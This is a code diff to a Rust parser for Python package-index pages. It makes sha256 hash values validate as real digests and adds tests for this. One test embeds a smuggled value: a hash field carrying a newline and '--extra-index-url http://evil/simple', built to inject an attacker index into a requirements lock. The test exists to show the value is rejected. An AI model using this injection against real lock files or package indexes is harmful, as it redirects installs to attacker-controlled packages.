@@ -8,7 +8,7 @@ use serde::Deserialize;
 use url::Url;
 use uv_pep440::VersionSpecifiers;
 
-use layerlock_dist::IndexFile;
+use layerlock_dist::{IndexFile, sha256_digest};
 
 pub const JSON_TYPE: &str = "application/vnd.pypi.simple.v1+json";
 
@@ -61,7 +61,7 @@ fn metadata_offer(value: Option<&serde_json::Value>) -> Option<Option<String>> {
         serde_json::Value::Object(map) => Some(
             map.get("sha256")
                 .and_then(|v| v.as_str())
-                .map(str::to_ascii_lowercase),
+                .and_then(sha256_digest),
         ),
         _ => None,
     }
@@ -79,7 +79,7 @@ fn split_fragment(mut url: Url) -> (Url, Option<String>) {
     let hash = url.fragment().and_then(|f| {
         f.split('&')
             .find_map(|part| part.strip_prefix("sha256="))
-            .map(str::to_ascii_lowercase)
+            .and_then(sha256_digest)
     });
     url.set_fragment(None);
     (url, hash)
@@ -115,7 +115,7 @@ pub fn parse_json(
             sha256: file
                 .hashes
                 .get("sha256")
-                .map(|h| h.to_ascii_lowercase())
+                .and_then(|h| sha256_digest(h))
                 .or(fragment_hash),
             requires_python: requires_python(file.requires_python.as_deref()),
             yanked,
@@ -270,7 +270,7 @@ pub fn parse_html(page_url: &Url, body: &[u8], listed_by: &str) -> Vec<IndexFile
         let metadata = get("data-core-metadata").or_else(|| get("data-dist-info-metadata"));
         let core_metadata = match metadata {
             None | Some("false") => None,
-            Some(v) => Some(v.strip_prefix("sha256=").map(str::to_ascii_lowercase)),
+            Some(v) => Some(v.strip_prefix("sha256=").and_then(sha256_digest)),
         };
         out.push(IndexFile {
             filename,
@@ -315,14 +315,22 @@ mod tests {
     fn html_page_with_pep_658_and_yanked() {
         let url = Url::parse("https://h/simple/foo/").unwrap();
         let body = br#"<html><body>
-<a href="../../files/foo-1.0-py3-none-any.whl#sha256=ABCD" data-requires-python="&gt;=3.8" data-dist-info-metadata="sha256=ef">foo-1.0-py3-none-any.whl</a><br/>
+<a href="../../files/foo-1.0-py3-none-any.whl#sha256=ABABABABABABABABABABABABABABABABABABABABABABABABABABABABABABABAB" data-requires-python="&gt;=3.8" data-dist-info-metadata="sha256=efefefefefefefefefefefefefefefefefefefefefefefefefefefefefefefef">foo-1.0-py3-none-any.whl</a><br/>
 <a href="https://cdn/foo-0.9.tar.gz" data-yanked="broken">foo-0.9.tar.gz</a>
 </body></html>"#;
         let files = parse_html(&url, body, "idx");
         assert_eq!(files.len(), 2);
         assert_eq!(files[0].url, "https://h/files/foo-1.0-py3-none-any.whl");
-        assert_eq!(files[0].sha256.as_deref(), Some("abcd"));
-        assert_eq!(files[0].core_metadata, Some(Some("ef".to_string())));
+        assert_eq!(
+            files[0].sha256.as_deref(),
+            Some("abababababababababababababababababababababababababababababababab")
+        );
+        assert_eq!(
+            files[0].core_metadata,
+            Some(Some(
+                "efefefefefefefefefefefefefefefefefefefefefefefefefefefefefefefef".to_string()
+            ))
+        );
         assert_eq!(
             files[0].requires_python.as_ref().unwrap().to_string(),
             ">=3.8"
@@ -334,11 +342,30 @@ mod tests {
     fn json_page() {
         let url = Url::parse("https://h/simple/foo/").unwrap();
         let body = br#"{"meta":{"api-version":"1.1"},"name":"foo","files":[
-{"filename":"foo-1.0-py3-none-any.whl","url":"/files/foo-1.0-py3-none-any.whl","hashes":{"sha256":"aa"},
- "requires-python":">=3.9","yanked":false,"upload-time":"2024-01-02T03:04:05.123456Z","core-metadata":{"sha256":"bb"}}]}"#;
+{"filename":"foo-1.0-py3-none-any.whl","url":"/files/foo-1.0-py3-none-any.whl","hashes":{"sha256":"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"},
+ "requires-python":">=3.9","yanked":false,"upload-time":"2024-01-02T03:04:05.123456Z","core-metadata":{"sha256":"bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"}}]}"#;
         let files = parse_json(&url, body, "idx").unwrap();
         assert_eq!(files[0].url, "https://h/files/foo-1.0-py3-none-any.whl");
         assert!(files[0].upload_time.is_some());
-        assert_eq!(files[0].core_metadata, Some(Some("bb".to_string())));
+        assert_eq!(
+            files[0].core_metadata,
+            Some(Some(
+                "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb".to_string()
+            ))
+        );
+    }
+
+    #[test]
+    fn a_hash_that_is_not_a_sha256_digest_is_no_hash() {
+        // A hash value carrying a newline would become a live line in a
+        // requirements lock (`--extra-index-url …`): it is dropped, and
+        // the file then cannot be hash-pinned.
+        let url = Url::parse("https://h/simple/foo/").unwrap();
+        let body = br#"{"files":[
+{"filename":"foo-1.0-py3-none-any.whl","url":"/f/foo-1.0-py3-none-any.whl","hashes":{"sha256":"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n--extra-index-url http://evil/simple"}},
+{"filename":"foo-1.1-py3-none-any.whl","url":"/f/foo-1.1-py3-none-any.whl#sha256=abc","hashes":{}}]}"#;
+        let files = parse_json(&url, body, "idx").unwrap();
+        assert_eq!(files[0].sha256, None);
+        assert_eq!(files[1].sha256, None);
     }
 }
